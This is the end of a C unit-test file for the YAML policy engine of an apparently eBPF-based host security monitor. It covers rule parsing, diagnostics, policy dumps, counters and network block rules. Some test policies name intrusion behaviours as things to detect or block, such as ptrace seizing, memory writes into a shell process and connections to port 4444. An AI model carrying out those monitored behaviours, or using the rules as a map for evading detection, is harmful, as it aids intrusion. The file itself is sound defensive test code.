		"  - {id: w, events: [open], match: {event: write}, action: alert}\n"
		"  - {id: ok, events: [exec, fork, exit], match: {result: success}, action: log}\n");
	struct sg_event ev;

	ev = ev_open(20, "/x", true, O_WRONLY);
	assert_string_equal(judge(p, &ev), "w");
	ev.file.write = false;
	assert_string_equal(judge(p, &ev), "-");
	ev = ev_base(SG_EV_FORK, 20, "sh", "/usr/bin/dash");
	ev.has_result = false;
	assert_string_equal(judge(p, &ev), "ok");
	ev = ev_exec(20, "/nonexistent", "x\0", 2);
	ev.result = -ENOENT;
	assert_string_equal(judge(p, &ev), "-");
	policy_free(p);
}

/* ptrace.request: value i is bit i of the names in event.h (attach, seize, vm_write). */
static void test_ptrace(void **state)
{
	struct policy *p = load(HDR
		"  - {id: seize, events: [ptrace], match: {ptrace.request: seize}, action: alert}\n"
		"  - {id: mem, events: [ptrace], match: {ptrace.request: [vm_write], "
		"ptrace.target: dash}, action: alert}\n"
		"  - {id: att, events: [ptrace], match: {ptrace.request: {not: [seize, vm_write]}}, "
		"action: log}\n");
	struct sg_event ev;
	char *d;

	ev = ev_base(SG_EV_PTRACE, 30, "gdb", "/usr/bin/gdb");
	ev.ptrace.request = 0x4206; /* PTRACE_SEIZE */
	assert_string_equal(judge(p, &ev), "seize");
	ev.ptrace.request = 0; /* process_vm_writev */
	ev.ptrace.target_entry = &procs[2];
	assert_string_equal(judge(p, &ev), "mem");
	ev.ptrace.target_entry = &procs[1];
	assert_string_equal(judge(p, &ev), "-");
	ev.ptrace.request = 16; /* PTRACE_ATTACH */
	assert_string_equal(judge(p, &ev), "att");
	ev.ptrace.request = 7; /* another request: no name, 'not' holds */
	assert_string_equal(judge(p, &ev), "att");
	d = dump(p);
	assert_non_null(strstr(d, "ptrace.request: {in: [seize]}"));
	assert_non_null(strstr(d, "ptrace.request: {not: {in: [seize, vm_write]}}"));
	free(d);
	policy_free(p);
	expect_error(HDR "  - {id: a, events: [ptrace], action: log, match: {ptrace.request: peek}}\n",
		     "unknown value 'peek' (expected attach, seize, vm_write)");
}

/* Every row of the field table is whole: a unique name, a group, a reader, value names. */
static void test_field_table(void **state)
{
	for (int f = 0; f < FLD_MAX; f++) {
		const struct pfield_desc *fd = &policy_fields[f];
		int named = 0;

		assert_non_null(fd->name);
		assert_int_equal(policy_field_find(fd->name), f);
		assert_int_not_equal(fd->group, 0);
		assert_int_not_equal(policy_field_events[f], 0);
		assert_non_null(fd->get.bits); /* whichever member its kind reads */
		for (int b = 0; b < 32; b++)
			named += policy_enum_name(f, b) != NULL;
		assert_true(fd->kind == PK_ENUM ? named > 0 : named == 0);
	}
	assert_int_equal(policy_field_find("proc.bogus"), -1);
}

struct pieces {
	int n;
	char text[16][96];
};

static int collect(void *arg, const struct policy_net_block *b)
{
	struct pieces *pc = arg;
	char net[ADDR_STR_MAX];

	assert_int_equal(addr_format_cidr(&b->net, net, sizeof(net)), 0);
	snprintf(pc->text[pc->n++], sizeof(pc->text[0]), "%zu %s %s%s %s %u-%u %u", b->rule, b->id,
		 b->connect ? "c" : "", b->bind ? "b" : "", net, b->port_lo, b->port_hi, b->proto);
	return pc->n == 16 ? -ENOSPC : 0;
}

static void test_block(void **state)
{
	struct policy_diag d;
	struct policy_rule_info ri;
	struct policy *p = NULL;
	struct pieces pc = { 0 };
	const char *text = HDR
		"  - {id: b, events: [connect], match: {net.port: 4444}, action: block}\n"
		"  - {id: c, events: [connect, bind], match: [{net.addr: [10.0.0.0/8, '::1'], "
		"net.port: [22, 8000-8080], net.proto: tcp}, {net.family: inet6}], action: block}\n"
		"  - {id: d, events: [connect], match: {proc.uid: 0}, action: block}\n"
		"  - {id: e, events: [connect], match: {net.port: 1}, action: alert}\n"
		"  - {id: f, events: [bind], match: {net.port: {not: 1}}, action: block}\n"
		"  - {id: g, events: [connect], except: [{net.port: 1}], action: block}\n";
	struct sg_event ev;

	policy_diag_init(&d);
	assert_int_equal(policy_load_string("t.yaml", text, strlen(text), &p, &d), 0);
	assert_int_equal(d.errors, 0);
	assert_int_equal(d.warnings, 3);
	assert_int_equal(d.msgs[0].line, 5);
	assert_int_equal(d.msgs[0].col, 62);
	assert_true(d.msgs[0].warning);
	/* a process condition: only BPF-LSM could judge it, and it was not probed here */
	assert_string_equal(d.msgs[0].text, "rule 'd' is monitor-only: it needs BPF-LSM, which "
			    "was not probed; its events are reported with \"enforced\": false");
	assert_non_null(strstr(d.msgs[1].text, "rule 'f' is monitor-only: 'not' cannot"));
	/* an exception: BPF-LSM could judge it, the cgroup programs cannot */
	assert_non_null(strstr(d.msgs[2].text, "rule 'g' is monitor-only: it needs BPF-LSM"));
	policy_diag_fini(&d);

	assert_int_equal(policy_net_blocks(p, collect, &pc), 7);
	assert_string_equal(pc.text[0], "0 b c 0.0.0.0/0 4444-4444 0");
	assert_string_equal(pc.text[1], "0 b c ::/0 4444-4444 0");
	assert_string_equal(pc.text[2], "1 c cb 10.0.0.0/8 22-22 6");
	assert_string_equal(pc.text[3], "1 c cb 10.0.0.0/8 8000-8080 6");
	assert_string_equal(pc.text[4], "1 c cb ::1 22-22 6");
	assert_string_equal(pc.text[5], "1 c cb ::1 8000-8080 6");
	assert_string_equal(pc.text[6], "1 c cb ::/0 0-65535 0");
	/* fn's error stops the walk */
	pc.n = 9;
	assert_int_equal(policy_net_blocks(p, collect, &pc), -ENOSPC);

	ev = ev_net(SG_EV_CONNECT, "1.2.3.4", 4444, IPPROTO_TCP);
	assert_int_equal(policy_eval_lineage(p, &ev, NULL), SG_ACT_BLOCK);
	assert_false(ev.verdict.enforced);
	assert_int_equal(policy_rule_info(p, 0, &ri), 0);
	assert_false(ri.enforceable);
	assert_int_equal(ri.action, SG_ACT_BLOCK);
	assert_int_equal(policy_rule_set_enforceable(p, 0, true), 0);
	assert_int_equal(policy_rule_set_enforceable(p, 6, true), -ENOENT);
	policy_eval_lineage(p, &ev, NULL);
	assert_true(ev.verdict.enforced);
	policy_free(p);
}

static void test_errors(void **state)
{
	expect_error("version: 2\n", "t.yaml:1:10: unsupported version '2'");
	expect_error("rules: []\n", "t.yaml:1:1: missing 'version: 1'");
	expect_error("- a\n", "t.yaml:1:1: a policy must be a mapping");
	expect_error("", "t.yaml:1:1: a policy must be a mapping");
	expect_error("version: 1\nfoo: 1\n", "t.yaml:2:1: unknown key 'foo'");
	expect_error("version: 1\nversion: 1\n", "t.yaml:2:1: duplicate key 'version'");
	expect_error("version: 1\nrules: [\n", "t.yaml:3:1: YAML: ");
	expect_error("version: 1\na: &x 1\n", "YAML anchors are not supported");
	expect_error(HDR "  - {id: a, events: [exec], action: alert, bogus: 1}\n",
		     "t.yaml:3:44: unknown key 'bogus' in a rule");
	expect_error(HDR "  - {events: [exec], action: alert}\n", "t.yaml:3:5: a rule without 'id'");
	expect_error(HDR "  - {id: a, action: alert}\n", "t.yaml:3:5: rule 'a' has no 'events'");
	expect_error(HDR "  - {id: a, events: exec}\n", "t.yaml:3:5: rule 'a' has no 'action'");
	expect_error(HDR "  - {id: a, events: [exec, bogus], action: alert}\n",
		     "t.yaml:3:28: unknown event type 'bogus'");
	expect_error(HDR "  - {id: a, events: [exec], action: kill}\n",
		     "t.yaml:3:37: unknown action 'kill'");
	expect_error(HDR "  - {id: a, events: [exec], action: alert, severity: huge}\n",
		     "t.yaml:3:54: unknown severity 'huge'");
	expect_error(HDR "  - {id: a, events: [exec], action: log}\n"
			 "  - {id: a, events: [exec], action: log}\n",
		     "t.yaml:4:10: duplicate rule id 'a' (first at t.yaml:3:5)");
	expect_error(HDR "  - {id: 'a b', events: [exec], action: log}\n", "bad rule id 'a b'");
	expect_error(HDR "  - {id: a, events: [exec], action: log, match: {proc.bogus: x}}\n",
		     "t.yaml:3:50: unknown field 'proc.bogus'");
	expect_error(HDR "  - {id: a, events: [exec], action: log, match: {file.path: /x}}\n",
		     "t.yaml:3:50: field 'file.path' does not exist for events [exec]");
	expect_error(HDR "  - {id: a, events: [exec], action: log, match: {proc.exe: {like: x}}}\n",
		     "t.yaml:3:61: unknown operator 'like' for 'proc.exe'");
	expect_error(HDR "  - {id: a, events: [exec], action: log, match: {proc.uid: {prefix: 1}}}\n",
		     "unknown operator 'prefix' for 'proc.uid' (expected in, not, all)");
	expect_error(HDR "  - {id: a, events: [exec], action: log, match: {proc.uid: abc}}\n",
		     "t.yaml:3:60: bad number or range 'abc' for 'proc.uid'");
	expect_error(HDR "  - {id: a, events: [exec], action: log, match: {proc.uid: 5-1}}\n",
		     "bad number or range '5-1'");
	expect_error(HDR "  - {id: a, events: [connect], action: log, match: {net.port: 2000-1000}}\n",
		     "t.yaml:3:63: bad port or port range '2000-1000': port range runs backwards");
	expect_error(HDR "  - {id: a, events: [connect], action: log, match: {net.port: 70000}}\n",
		     "bad port or port range '70000'");
	expect_error(HDR "  - {id: a, events: [connect], action: log, match: {net.addr: 10.0.0.1/8}}\n",
		     "t.yaml:3:63: bad address or CIDR '10.0.0.1/8': host bits set");
	expect_error(HDR "  - {id: a, events: [connect], action: log, match: {net.addr: 1.2.3}}\n",
		     "bad address or CIDR '1.2.3': not an IP address");
}

static void test_errors2(void **state)
{
	expect_error(HDR "  - {id: a, events: [connect], action: log, match: {net.proto: sctp}}\n",
		     "t.yaml:3:64: unknown value 'sctp' (expected tcp, udp)");
	expect_error(HDR "  - {id: a, events: [exec], action: log, match: {proc.exe: $nope}}\n",
		     "t.yaml:3:60: unknown list 'nope'");
	expect_error(HDR "  - {id: a, events: [exec], action: log, match: {proc.exe: []}}\n",
		     "empty list of values for 'proc.exe'");
	expect_error(HDR "  - {id: a, events: [open], action: log, match: {file.write: maybe}}\n",
		     "'file.write' takes true or false, not 'maybe'");
	expect_error(HDR "  - {id: a, events: [exec], action: log, except: [{}]}\n",
		     "an exception has no conditions");
	expect_error(HDR "  - {id: a, events: [exec], action: log, except: {proc.uid: 0}}\n",
		     "'except' must be a list of condition sets");
	expect_error(HDR "  - {id: a, events: [exec], action: log, match: [x]}\n",
		     "t.yaml:3:50: a 'match' entry must be a mapping, not a string");
	expect_error(HDR "  - {id: a, events: [exec], action: log, match: x}\n",
		     "t.yaml:3:49: 'match' must be a mapping, not a string");
	expect_error(HDR "  - {id: a, events: [exec], action: log, match: {proc.exe: {in: x, is: y}}}\n",
		     "operator 'in' given twice");
	expect_error(HDR "  - {id: a, events: [exec], action: log, match: {proc.exe: "
			 "{not: {not: {not: {not: {not: x}}}}}}}\n",
		     "'not' nested too deeply");
	expect_error("version: 1\nlists: {a: [x, $b]}\n", "t.yaml:2:16: list 'a' refers to another");
	expect_error("version: 1\nlists: {a: x}\n", "t.yaml:2:12: a list must be a list");
	expect_error("version: 1\ndefaults: {action: block}\n", "bad default action 'block'");
	expect_error("version: 1\ndefaults: {dedup_window: 5}\n", "t.yaml:2:26: bad duration '5'");
	expect_error("version: 1\ndefaults: {dedup_window: 2h}\n", "bad duration '2h'");
	expect_error("version: 1\ndefaults: {dedup_window: 9999s}\n", "longer than 3600s");
	expect_error("version: 1\ndefaults: {colour: red}\n", "unknown key 'colour' in 'defaults'");
	expect_error("version: 1\nexclude: [{}]\n", "an exclusion has no conditions");
	expect_error("version: 1\nrules: {a: 1}\n", "'rules' must be a list, not a mapping");
}

static void test_warnings(void **state)
{
	const char *text = HDR
		"  - {id: a, events: [exec], action: log, match: {proc.exe: {in: /a, prefix: /b}}}\n";
	struct policy_diag d;
	struct policy *p = NULL;

	policy_diag_init(&d);
	assert_int_equal(policy_load_string("t.yaml", text, strlen(text), &p, &d), 0);
	assert_int_equal(d.warnings, 1);
	assert_int_equal(d.msgs[0].col, 60);
	assert_string_equal(d.msgs[0].text, "'proc.exe': 'in' and 'prefix' must both hold; for "
					    "either, put the values in one 'glob' list");
	policy_diag_fini(&d);
	policy_free(p);
	text = "version: 1\nlists: {unused: [a]}\n";
	policy_diag_init(&d);
	assert_int_equal(policy_load_string("t.yaml", text, strlen(text), &p, &d), 0);
	assert_int_equal(d.warnings, 1);
	assert_string_equal(d.msgs[0].text, "list 'unused' is never used");
	assert_int_equal(d.msgs[0].line, 2);
	assert_int_equal(d.msgs[0].col, 17);
	policy_diag_fini(&d);
	policy_free(p);
}

static void test_all_errors_collected(void **state)
{
	char *out = load_fail(HDR
		"  - {id: a, events: [bogus], action: log}\n"
		"  - {id: b, events: [exec], action: nope}\n"
		"  - {id: c, events: [exec], action: log, match: {net.port: 1}}\n");

	assert_string_equal(out,
		"t.yaml:3:22: unknown event type 'bogus' (expected exec, fork, exit, open, rename, "
		"unlink, connect, bind, listen, chmod, ptrace, setuid, mount, module, bpf, io_uring, write)\n"
		"t.yaml:4:37: unknown action 'nope' (expected allow, log, alert, block)\n"
		"t.yaml:5:50: field 'net.port' does not exist for events [exec]\n");
	free(out);
}

static char *dump(const struct policy *p)
{
	char *s = NULL;

	assert_int_equal(policy_dump_string(p, &s), 0);
	return s;
}

static void test_dump_roundtrip(void **state)
{
	static const char text[] = "version: 1\n"
		"lists:\n"
		"  s: [b, a, b, '$$x', 'with space', 'q\"uote', 'true', '*glob*']\n"
		"defaults: {dedup_window: 500ms, action: alert, severity: medium}\n"
		"exclude:\n"
		"  - {proc.comm: z, event: [write, exec]}\n"
		"rules:\n"
		"  - id: r1\n"
		"    description: \"A: rule\"\n"
		"    events: [write, exec, connect]\n"
		"    match:\n"
		"      - proc.argv: {arg: $s, contains: x, not: {glob: $s}}\n"
		"        proc.uid: [5, 0, 1-3, 0]\n"
		"      - {exec.filename: {suffix: .sh}}\n"
		"    except:\n"
		"      - {parent.name: $s}\n"
		"    action: log\n"
		"    tags: [z, a]\n"
		"  - {id: r2, events: connect, match: {net.addr: ['::1', 10.0.0.0/8], "
		"net.port: {not: 1}, net.proto: [udp, tcp], result: failure}, action: block, "
		"enabled: false}\n";
	struct policy *p = load(text), *q;
	char *a = dump(p), *b;

	assert_non_null(strstr(a, "  dedup_window: 500ms\n"));
	assert_non_null(strstr(a, "proc.uid: {in: [0, 1-3, 5]}"));
	assert_non_null(strstr(a, "\"$$x\""));
	assert_non_null(strstr(a, "events: [exec, connect, write]"));
	q = load(a);
	b = dump(q);
	assert_string_equal(a, b);
	free(a);
	free(b);
	policy_free(p);
	policy_free(q);
}

static void test_counters_and_json(void **state)
{
	struct policy *p = load(HDR
		"  - {id: a, events: [open], match: {file.path: /a}, action: log}\n"
		"  - {id: b, events: [open], match: {file.path: /b}, action: log}\n");
	struct policy *q = load(HDR
		"  - {id: b, events: [open], match: {file.path: /b}, action: alert}\n"
		"  - {id: c, events: [open], action: log}\n");
	struct policy_rule_info ri;
	struct json_object *j, *rules, *v;
	struct sg_event ev;

	ev = ev_open(20, "/b", false, 0);
	for (int i = 0; i < 3; i++)
		judge(p, &ev);
	ev = ev_open(20, "/a", false, 0);
	judge(p, &ev);
	policy_carry_counters(q, p);
	assert_int_equal(policy_rule_count(q), 2);
	assert_int_equal(policy_rule_info(q, 0, &ri), 0);
	assert_string_equal(ri.id, "b");
	assert_int_equal(ri.hits, 3);
	assert_int_equal(policy_rule_info(q, 1, &ri), 0);
	assert_int_equal(ri.hits, 0);
	assert_int_equal(ri.line, 4);
	assert_string_equal(ri.file, "t.yaml");
	assert_int_equal(policy_rule_info(q, 2, &ri), -ENOENT);
	assert_string_equal(policy_source(q), "t.yaml");

	assert_int_equal(policy_to_json(q, &j), 0);
	assert_true(json_object_object_get_ex(j, "rules", &rules));
	assert_int_equal(json_object_array_length(rules), 2);
	v = json_object_array_get_idx(rules, 0);
	assert_true(json_object_object_get_ex(v, "hits", &v));
	assert_int_equal(json_object_get_int64(v), 3);
	assert_true(json_object_object_get_ex(j, "normalized", &v));
	assert_non_null(strstr(json_object_get_string(v), "  - id: c\n"));
	json_object_put(j);
	policy_free(p);
	policy_free(q);
}

static void write_file(const char *path, const char *text)
{
	FILE *f = fopen(path, "w");

	assert_non_null(f);
	fputs(text, f);
	fclose(f);
}

static void test_directory(void **state)
{
	char dir[] = "/tmp/sg-policy-test-XXXXXX", path[256], *out = NULL;
	struct policy_diag d;
	struct policy *p = NULL;
	struct sg_event ev;
	size_t len;
	FILE *f;

	assert_non_null(mkdtemp(dir));
	snprintf(path, sizeof(path), "%s/20-rules.yaml", dir);
	write_file(path, "version: 1\nrules:\n"
			 "  - {id: second, events: [exec], match: {proc.exe: $sh}, action: log}\n");
	snprintf(path, sizeof(path), "%s/10-lists.yaml", dir);
	write_file(path, "version: 1\nlists: {sh: [/usr/bin/dash]}\ndefaults: {action: allow}\n"
			 "rules:\n  - {id: first, events: [exec], match: {proc.exe: $sh}, "
			 "action: alert}\n");
	snprintf(path, sizeof(path), "%s/.hidden.yaml", dir);
	write_file(path, "garbage: [\n");
	snprintf(path, sizeof(path), "%s/README", dir);
	write_file(path, "not a policy\n");

	policy_diag_init(&d);
	assert_int_equal(policy_load(dir, &p, &d), 0);
	assert_int_equal(d.errors + d.warnings, 0);
	policy_diag_fini(&d);
	ev = ev_exec(20, "/usr/bin/dash", "sh\0", 3);
	assert_string_equal(judge(p, &ev), "first");
	ev = ev_exec(20, "/usr/bin/ls", "ls\0", 3);
	assert_int_equal(policy_eval_lineage(p, &ev, NULL), SG_ACT_ALLOW);
	policy_free(p);
	p = NULL;

	/* the same id in two files, and the same default twice */
	snprintf(path, sizeof(path), "%s/30-dup.yaml", dir);
	write_file(path, "version: 1\ndefaults: {action: log}\nrules:\n"
			 "  - {id: first, events: [exec], action: log}\n");
	policy_diag_init(&d);
	assert_int_equal(policy_load(dir, &p, &d), -EINVAL);
	assert_null(p);
	f = open_memstream(&out, &len);
	policy_diag_print(&d, f);
	fclose(f);
	policy_diag_fini(&d);
	snprintf(path, sizeof(path),
		 "%s/30-dup.yaml:2:12: 'defaults.action' already set at %s/10-lists.yaml:3:12\n"
		 "%s/30-dup.yaml:4:10: duplicate rule id 'first' (first at %s/10-lists.yaml:5:5)\n",
		 dir, dir, dir, dir);
	assert_string_equal(out, path);
	free(out);

	/* unreadable things */
	policy_diag_init(&d);
	assert_int_equal(policy_load("/nonexistent/policy.yaml", &p, &d), -ENOENT);
	assert_int_equal(d.errors, 1);
	assert_string_equal(d.msgs[0].text, "cannot open: No such file or directory");
	policy_diag_fini(&d);

	snprintf(path, sizeof(path), "rm -rf '%s'", dir);
	assert_int_equal(system(path), 0);
}

static void test_check_main(void **state)
{
	char path[] = "/tmp/sg-policy-check-XXXXXX";
	char *out = NULL, *err = NULL;
	size_t olen, elen;
	FILE *o, *e;
	int fd = mkstemp(path);

	assert_true(fd >= 0);
	close(fd);
	write_file(path, "version: 1\nrules:\n  - {id: x, events: [unlink], action: block}\n");
	/* a block rule on unlink events is monitor-only: a warning, not an error */
	o = open_memstream(&out, &olen);
	e = open_memstream(&err, &elen);
	assert_int_equal(policy_check_main(path, true, o, e), 0);
	fclose(o);
	fclose(e);
	assert_non_null(strstr(out, "  - id: x\n    action: block\n"));
	assert_non_null(strstr(err, ":3:39: warning: rule 'x' is monitor-only"));
	free(out);
	free(err);
	write_file(path, "version: 1\nrules:\n  - {id: x, events: [open], action: blok}\n");
	o = open_memstream(&out, &olen);
	e = open_memstream(&err, &elen);
	assert_int_equal(policy_check_main(path, true, o, e), 1);
	fclose(o);
	fclose(e);
	assert_string_equal(out, "");
	assert_non_null(strstr(err, ":3:37: unknown action 'blok'"));
	free(out);
	free(err);
	unlink(path);
}

static void test_shipped_policies(void **state)
{
	static const char *const files[] = { "policies/default.yaml",
					     "policies/examples/strict-server.yaml",
					     "policies/examples/workstation.yaml" };
	struct policy_diag d;

	for (size_t i = 0; i < sizeof(files) / sizeof(files[0]); i++) {
		struct policy *p = NULL;

		if (access(files[i], R_OK) != 0)
			skip(); /* run from the source tree to check them */
		unsigned int other = 0;

		int r;

		policy_diag_init(&d);
		r = policy_load(files[i], &p, &d);
		/* block rules are monitor-only in this build: the one warning allowed */
		for (size_t k = 0; k < d.n; k++)
			other += !strstr(d.msgs[k].text, "monitor-only");
		if (r < 0 || other || (i == 0 && d.warnings)) {
			policy_diag_print(&d, stderr);
			fail_msg("%s does not load cleanly", files[i]);
		}
		policy_diag_fini(&d);
		policy_free(p);
	}
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test_setup(test_string_ops, setup_tree),
		cmocka_unit_test_setup(test_proc_fields, setup_tree),
		cmocka_unit_test_setup(test_argv, setup_tree),
		cmocka_unit_test_setup(test_negation_and_ancestry, setup_tree),
		cmocka_unit_test_setup(test_ancestor_depth, setup_tree),
		cmocka_unit_test_setup(test_match_any, setup_tree),
		cmocka_unit_test_setup(test_lists, setup_tree),
		cmocka_unit_test_setup(test_exceptions_order_defaults, setup_tree),
		cmocka_unit_test_setup(test_allow_and_exclude, setup_tree),
		cmocka_unit_test_setup(test_files, setup_tree),
		cmocka_unit_test_setup(test_chmod, setup_tree),
		cmocka_unit_test_setup(test_exec_context, setup_tree),
		cmocka_unit_test_setup(test_net, setup_tree),
		cmocka_unit_test_setup(test_events_field, setup_tree),
		cmocka_unit_test_setup(test_ptrace, setup_tree),
		cmocka_unit_test_setup(test_block, setup_tree),
		cmocka_unit_test(test_field_table),
		cmocka_unit_test(test_errors),
		cmocka_unit_test(test_errors2),
		cmocka_unit_test(test_warnings),
		cmocka_unit_test(test_all_errors_collected),
		cmocka_unit_test(test_dump_roundtrip),
		cmocka_unit_test_setup(test_counters_and_json, setup_tree),
		cmocka_unit_test_setup(test_directory, setup_tree),
		cmocka_unit_test(test_check_main),
		cmocka_unit_test(test_shipped_policies),
	};

	return cmocka_run_group_tests(tests, NULL, NULL);
}
